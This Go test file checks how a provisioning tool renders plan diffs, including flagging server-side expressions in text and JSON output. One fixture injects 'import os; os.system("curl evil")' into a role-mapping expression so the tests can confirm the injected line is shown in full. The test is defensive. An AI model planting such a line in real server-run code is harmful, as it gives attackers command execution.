package render

import (
	"bytes"
	"encoding/json"
	"fmt"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/provision/provision/internal/plan"
)

func TestCodeDiff(t *testing.T) {
	t.Parallel()
	show := func(ls []CodeLine) string {
		var b strings.Builder
		for _, l := range ls {
			b.WriteString(string(l.Op) + l.Text + "\n")
		}
		return b.String()
	}
	assert.Equal(t, "+a\n+b\n", show(CodeDiff(nil, "a\nb\n")))
	assert.Equal(t, " a\n-b\n+B\n c\n+d\n", show(CodeDiff("a\nb\nc", "a\nB\nc\nd")))
	assert.Equal(t, "-x\n", show(CodeDiff("x", "")))
}

func codePlan() *plan.Plan {
	return &plan.Plan{Changes: []plan.Change{
		{Kind: plan.KindScopeMapping, Key: "roles", Action: plan.Update, ID: "9", Source: "m.yaml:3:5",
			Fields: []plan.FieldChange{
				{Field: "description", Before: "a", After: "b"},
				{Field: "expression", RunsOnServer: true,
					Before: "groups = request.user.groups.all()\nreturn {\"roles\": [g.name for g in groups]}",
					After:  "groups = request.user.groups.all()\nimport os; os.system(\"curl evil\")\nreturn {\"roles\": [g.name for g in groups]}"},
			}},
	}}
}

// An expression is shown whole, every line, with the change in place and a
// marker that it runs on the server: a one-line added call cannot hide in a
// long quoted string.
func TestTextShowsServerCodeWhole(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	require.NoError(t, Text(&buf, codePlan(), TextOptions{}))
	got := buf.String()
	assert.Contains(t, got, `      ~ description = "a" -> "b"`)
	assert.Contains(t, got, "      ~ expression  = <<-EOT  # "+ServerCodeNote+"\n"+
		"            groups = request.user.groups.all()\n"+
		"          + import os; os.system(\"curl evil\")\n"+
		"            return {\"roles\": [g.name for g in groups]}\n"+
		"        EOT\n")
}

func TestJSONFlagsServerCode(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	require.NoError(t, JSON(&buf, codePlan()))
	var got struct {
		RunsOnServer bool `json:"runs_on_server"`
		Changes      []struct {
			RunsOnServer bool `json:"runs_on_server"`
			Fields       []struct {
				Field        string `json:"field"`
				After        any    `json:"after"`
				RunsOnServer bool   `json:"runs_on_server"`
			} `json:"fields"`
		} `json:"changes"`
	}
	require.NoError(t, json.Unmarshal(buf.Bytes(), &got))
	assert.True(t, got.RunsOnServer)
	assert.True(t, got.Changes[0].RunsOnServer)
	assert.False(t, got.Changes[0].Fields[0].RunsOnServer)
	assert.True(t, got.Changes[0].Fields[1].RunsOnServer)
	assert.Contains(t, got.Changes[0].Fields[1].After, "curl evil", "the whole text is in the JSON")

	buf.Reset()
	require.NoError(t, JSON(&buf, mixedPlan()))
	assert.NotContains(t, buf.String(), "runs_on_server", "absent when no change runs code")
}

// Finding 12 of issue 25: the diff of a huge expression is bounded in
// memory (the LCS table grew with the square of its length) and still
// shows every line.
func TestCodeDiffOfAHugeExpressionIsBounded(t *testing.T) {
	var before, after strings.Builder
	for i := 0; i < 5000; i++ {
		fmt.Fprintf(&before, "x%d = %d\n", i, i)
		fmt.Fprintf(&after, "y%d = %d\n", i, i)
	}
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	startAlloc := ms.TotalAlloc
	lines := CodeDiff(before.String(), after.String())
	runtime.ReadMemStats(&ms)
	assert.Len(t, lines, 10000, "every line, removed then added")
	assert.Less(t, ms.TotalAlloc-startAlloc, uint64(64<<20), "bytes allocated (the full table: 200 MB)")

	// A small edit inside is still a minimal diff.
	got := CodeDiff("a\nb\nc\n", "a\nB\nc\n")
	assert.Equal(t, []CodeLine{{' ', "a"}, {'-', "b"}, {'+', "B"}, {' ', "c"}}, got)
}
